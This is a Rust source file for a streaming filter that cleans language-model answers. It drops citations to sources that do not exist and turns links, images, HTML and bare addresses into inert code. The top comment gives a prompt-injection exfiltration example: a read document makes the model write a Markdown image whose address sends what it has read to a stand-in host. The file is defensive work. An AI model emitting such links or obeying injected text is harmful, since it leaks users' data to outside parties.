//! What a model writes, on its way to people: numbers of sources that there are not are dropped, and nothing is left that a
//! reader of Markdown would fetch from a foreign host or take for HTML.
//!
//! A document can make a model write `![](https://elsewhere.example/?what=it-has-read)`, and a page that shows it would tell.
//! So outside code no link, image or tag of a model remains: addresses become code, which every renderer shows as it is. The
//! filter works while the text streams: it holds back a few characters, a code span until it is closed, and never what is
//! between the fences of a code block.
//!
//! Where `CommonMark` (0.31) and this filter could see a text differently, the filter takes it for prose, or writes what
//! leaves no doubt: a code block that ends because its list does gets a fence of its own. A sign too many is then escaped, and
//! nothing foreign is shown.

use std::collections::BTreeSet;

/// A code span that is longer than this, in bytes, is taken for prose.
const LONGEST_SPAN: usize = 2000;
/// Characters between the brackets of citations.
const LONGEST_CITATION: usize = 48;

/// Filters a text that comes in pieces.
#[derive(Debug)]
pub struct Filter {
    /// The highest number that there is.
    sources: i32,
    /// What came and is not decided yet.
    held: String,
    fence: Option<Fence>,
    /// Whether the next character is the first of a line.
    at_line_start: bool,
    /// The last character that was written.
    last: Option<char>,
    cited: BTreeSet<i32>,
    dropped: usize,
}

/// An open code block.
#[derive(Debug, Clone, Copy)]
struct Fence {
    mark: char,
    length: usize,
    indent: usize,
}

impl Filter {
    /// A filter for an answer to which there are so many sources, numbered from 1.
    pub fn new(sources: usize) -> Self {
        Self {
            sources: i32::try_from(sources).unwrap_or(i32::MAX),
            held: String::new(),
            fence: None,
            at_line_start: true,
            last: None,
            cited: BTreeSet::new(),
            dropped: 0,
        }
    }

    /// Takes a piece, and gives what is decided by it.
    pub fn push(&mut self, piece: &str) -> String {
        // A null character cannot be kept, and a carriage return would end lines that are counted by the other sign.
        self.held.extend(piece.chars().filter(|character| !['\0', '\r'].contains(character)));
        self.decide(false)
    }

    /// Gives what is left.
    pub fn finish(&mut self) -> String {
        self.decide(true)
    }

    /// The numbers that were cited so far.
    pub fn cited(&self) -> Vec<i32> {
        self.cited.iter().copied().collect()
    }

    /// How many numbers were dropped because there is no such source.
    pub fn dropped(&self) -> usize {
        self.dropped
    }

    fn decide(&mut self, is_end: bool) -> String {
        let held = std::mem::take(&mut self.held);
        let mut out = String::with_capacity(held.len());
        let mut rest = held.as_str();
        while !rest.is_empty() {
            let Some(used) = self.step(rest, is_end, &mut out) else { break };
            rest = rest.get(used..).unwrap_or_default();
        }
        rest.clone_into(&mut self.held);
        out
    }

    /// Decides on the beginning of what is held, and says how many bytes that was; `None` where more must come first.
    fn step(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        if self.at_line_start {
            return self.line(rest, is_end, out);
        }
        if self.fence.is_some() {
            return Some(self.in_fence(rest, out));
        }
        self.prose(rest, is_end, out)
    }

    /// Within a code block, to the end of the line: as it is.
    fn in_fence(&mut self, rest: &str, out: &mut String) -> usize {
        let end = rest.find('\n').map_or(rest.len(), |end| end + 1);
        self.write(&rest[..end], out);
        end
    }

    /// A line's beginning: does a code block begin or end with it?
    fn line(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let indent = rest.bytes().take_while(|byte| *byte == b' ').count();
        let inner = &rest[indent..];
        let Some(first) = inner.chars().next() else {
            if !is_end {
                return None;
            }
            self.at_line_start = false;
            self.write(rest, out);
            return Some(rest.len());
        };
        if let Some(fence) = self.fence {
            let edge = " ".repeat(fence.indent);
            // Behind tabs others see the block's end as well.
            let tabs = inner.bytes().take_while(|byte| [b' ', b'\t'].contains(byte)).count();
            if inner.len() == tabs && !is_end {
                return None;
            }
            let (indent, inner) = if inner[tabs..].starts_with(fence.mark) {
                (indent + tabs, &inner[tabs..])
            } else {
                (indent, inner)
            };
            let first = inner.chars().next().unwrap_or(first);
            if first != '\n' && indent < fence.indent {
                // The list that the block may have been part of ends here. Whether it was: now the block ends for everybody.
                self.fence = None;
                let marks: String = std::iter::repeat_n(fence.mark, fence.length).collect();
                self.write(&format!("{edge}{marks}\n"), out);
            } else if first == fence.mark {
                let end = match inner.find('\n') {
                    Some(end) => end,
                    None if is_end => inner.len(),
                    None => return None,
                };
                let line = inner[..end].trim_end();
                self.at_line_start = false;
                if line.len() >= fence.length && line.chars().all(|character| character == fence.mark) {
                    self.fence = None;
                    self.write(&format!("{edge}{line}"), out);
                } else {
                    self.write(&rest[..indent + end], out);
                }
                return Some(indent + end);
            } else {
                return Some(self.in_fence(rest, out));
            }
        }
        if indent <= 3 && (first == '`' || first == '~') {
            let end = match inner.find('\n') {
                Some(end) => end,
                None if is_end => inner.len(),
                None if inner.len() < 200 => return None,
                None => 0,
            };
            let length = inner.chars().take_while(|character| *character == first).count();
            let info = &inner[length.min(end)..end];
            if end > 0 && length >= 3 && !(first == '`' && info.contains('`')) {
                self.fence = Some(Fence { mark: first, length, indent });
                self.at_line_start = false;
                // The name of a language and no more: what else stands there is shown by nobody.
                let name: String = info
                    .trim()
                    .chars()
                    .take_while(|sign| sign.is_alphanumeric() || "+-_#.".contains(*sign))
                    .collect();
                let name = if is_run(&name) { "text" } else { name.as_str() };
                let marks: String = std::iter::repeat_n(first, length).collect();
                self.write(&format!("{}{marks}{name}", &rest[..indent]), out);
                return Some(indent + end);
            }
        }
        self.at_line_start = false;
        if indent > 0 {
            self.write(&rest[..indent], out);
            return Some(indent);
        }
        self.prose(rest, is_end, out)
    }

    /// Prose: one sign, or one thing that is more than a sign.
    fn prose(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let mut characters = rest.chars();
        let first = characters.next()?;
        let second = characters.next();
        match first {
            '`' => self.span(rest, is_end, out),
            // Three of them open a block of code, in a list or a quotation too, where this filter follows none.
            '~' => {
                let run = rest.bytes().take_while(|byte| *byte == b'~').count();
                if run == rest.len() && !is_end {
                    return None;
                }
                self.write(&if run < 3 { "~" } else { "\\~" }.repeat(run), out);
                Some(run)
            }
            '[' => self.bracket(rest, is_end, out),
            '【' => self.wide_bracket(rest, is_end, out),
            // `](` and `]:` make links, `![` makes an image.
            ']' | '!' => {
                let next = match second {
                    Some(next) => next,
                    None if is_end => '\n',
                    None => return None,
                };
                if first == '!' && next == '[' {
                    // The bracket comes next, and its image does not.
                    return Some(1);
                }
                let apart = first == ']' && matches!(next, '(' | ':' | '[');
                self.write(if apart { "] " } else { &rest[..1] }, out);
                Some(1)
            }
            '<' => {
                let next = match second {
                    Some(next) => next,
                    None if is_end => ' ',
                    None => return None,
                };
                let compares = next.is_whitespace() || next.is_ascii_digit() || next == '=';
                self.write(if compares { "<" } else { "\\<" }, out);
                Some(1)
            }
            // What is escaped might open what we took for closed.
            '\\' => {
                let next = match second {
                    Some(next) => next,
                    None if is_end => ' ',
                    None => return None,
                };
                if next.is_ascii_punctuation() {
                    // Shown as it was meant: a sign by itself.
                    self.write("\\\\", out);
                } else {
                    self.write("\\", out);
                }
                Some(1)
            }
            '\n' => {
                self.write("\n", out);
                self.at_line_start = true;
                Some(1)
            }
            _ if starts_address(self.last, rest) => self.address(rest, is_end, out),
            _ if !is_end && may_start_address(self.last, rest) => None,
            _ => {
                self.write(&rest[..first.len_utf8()], out);
                Some(first.len_utf8())
            }
        }
    }

    /// A code span: copied whole, once it is closed.
    fn span(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let run = rest.bytes().take_while(|byte| *byte == b'`').count();
        if run == rest.len() && !is_end {
            return None;
        }
        let inner = &rest[run..];
        // A paragraph's end ends whatever is open in it.
        let limit = inner.find('\n').unwrap_or(inner.len());
        let mut at = 0;
        let mut may_close = limit == inner.len() && !is_end && inner.len() < LONGEST_SPAN;
        while let Some(place) = inner[at..limit].find('`') {
            let start = at + place;
            let length = inner[start..limit].bytes().take_while(|byte| *byte == b'`').count();
            let could_grow = start + length == inner.len() && !is_end;
            if could_grow {
                return None;
            }
            if length == run {
                let code = &inner[..start];
                // In a table a bar ends its cell, and with it the code.
                if code.contains('|') && ["[", "<", "//", "www."].iter().any(|sign| code.contains(sign)) {
                    may_close = false;
                    break;
                }
                self.apart(out);
                let end = run + start + length;
                self.write(&rest[..end], out);
                return Some(end);
            }
            at = start + length;
        }
        if may_close {
            return None;
        }
        // It is closed nowhere: these are signs by themselves, and shown as such.
        self.write(&"\\`".repeat(run), out);
        Some(run)
    }

    /// Citations, or a bracket.
    fn bracket(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let inside = &rest[1..];
        let Some(end) = inside.find(|sign: char| !(sign.is_ascii_digit() || [',', ' ', '^'].contains(&sign)))
        else {
            if !is_end && inside.len() < LONGEST_CITATION {
                return None;
            }
            self.write("[", out);
            return Some(1);
        };
        let numbers = &inside[..end];
        if !inside[end..].starts_with(']')
            || !numbers.bytes().any(|byte| byte.is_ascii_digit())
            || end > LONGEST_CITATION
        {
            self.write("[", out);
            return Some(1);
        }
        let after = inside[end + 1..].chars().next();
        if after.is_none() && !is_end {
            return None;
        }
        self.cite(numbers, after, out);
        Some(end + 2)
    }

    /// 【1】 and 【1†source】, as some models write citations.
    fn wide_bracket(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let open = '【'.len_utf8();
        let inside = &rest[open..];
        let Some(end) = inside.find('】') else {
            if !is_end && inside.len() < LONGEST_CITATION && !inside.contains('\n') {
                return None;
            }
            self.write("【", out);
            return Some(open);
        };
        let numbers = inside[..end].split('†').next().unwrap_or_default();
        let is_citation = !numbers.is_empty()
            && numbers.chars().all(|sign| sign.is_ascii_digit() || [',', ' '].contains(&sign))
            && numbers.bytes().any(|byte| byte.is_ascii_digit());
        if !is_citation {
            self.write("【", out);
            return Some(open);
        }
        let after = inside[end + '】'.len_utf8()..].chars().next();
        if after.is_none() && !is_end {
            return None;
        }
        self.cite(numbers, after, out);
        Some(open + end + '】'.len_utf8())
    }

    /// Writes those numbers that there are, each in brackets of its own. What stands before and after never becomes one by it.
    fn cite(&mut self, numbers: &str, after: Option<char>, out: &mut String) {
        let before = out.len();
        for number in numbers.split([',', ' ', '^']).filter(|number| !number.is_empty()) {
            match number.parse::<i32>() {
                Ok(number) if (1..=self.sources).contains(&number) => {
                    self.cited.insert(number);
                    // Two in a row must not read as a link and its reference.
                    let apart = if self.last == Some(']') { " " } else { "" };
                    self.write(&format!("{apart}[{number}]"), out);
                }
                _ => self.dropped += 1,
            }
        }
        let is_gone = out.len() == before && !self.last.is_none_or(char::is_whitespace);
        let joins =
            after.is_some_and(|after| !(after.is_whitespace() || ".,;?)。，；、？）".contains(after)));
        if matches!(after, Some('(' | ':')) || (is_gone && joins) {
            self.write(" ", out);
        }
    }

    /// An address: shown as code.
    fn address(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let ends = |sign: char| {
            sign.is_whitespace() || sign.is_control() || "`<>\"'()[]{}|\\^".contains(sign) || !sign.is_ascii()
        };
        let end = match rest.find(ends) {
            Some(end) => end,
            None if !is_end && rest.len() < 4000 => return None,
            None => rest.len(),
        };
        let address = rest[..end].trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~']);
        let address = if address.is_empty() { &rest[..end] } else { address };
        self.apart(out);
        self.write(&format!("`{address}`"), out);
        Some(address.len())
    }

    /// Keeps two runs of code from becoming one.
    fn apart(&mut self, out: &mut String) {
        if matches!(self.last, Some('`' | '\\')) {
            self.write(" ", out);
        }
    }

    fn write(&mut self, text: &str, out: &mut String) {
        out.push_str(text);
        if let Some(last) = text.chars().last() {
            self.last = Some(last);
            self.at_line_start = last == '\n';
        }
    }
}

/// Beginnings of what readers of Markdown make links of by themselves.
const BEGINNINGS: [&str; 5] = ["http://", "https://", "ftp://", "www.", "//"];

fn at_word(last: Option<char>) -> bool {
    last.is_none_or(|last| !last.is_alphanumeric())
}

fn starts_address(last: Option<char>, rest: &str) -> bool {
    at_word(last)
        && BEGINNINGS.iter().any(|beginning| {
            rest.as_bytes()
                .get(..beginning.len())
                .is_some_and(|bytes| bytes.eq_ignore_ascii_case(beginning.as_bytes()))
        })
}

/// Whether more could make an address of it.
fn may_start_address(last: Option<char>, rest: &str) -> bool {
    at_word(last)
        && BEGINNINGS.iter().any(|beginning| {
            rest.len() < beginning.len()
                && beginning.as_bytes()[..rest.len()].eq_ignore_ascii_case(rest.as_bytes())
        })
}

/// Whether readers of chats elsewhere are known to run or draw a block of this language, which may then load what it names.
fn is_run(language: &str) -> bool {
    const RUN: [&str; 14] = [
        "mermaid",
        "vega",
        "vega-lite",
        "html",
        "xhtml",
        "svg",
        "geojson",
        "topojson",
        "stl",
        "math",
        "latex",
        "dot",
        "graphviz",
        "plantuml",
    ];
    RUN.iter().any(|run| language.eq_ignore_ascii_case(run))
}

#[cfg(test)]
mod tests;
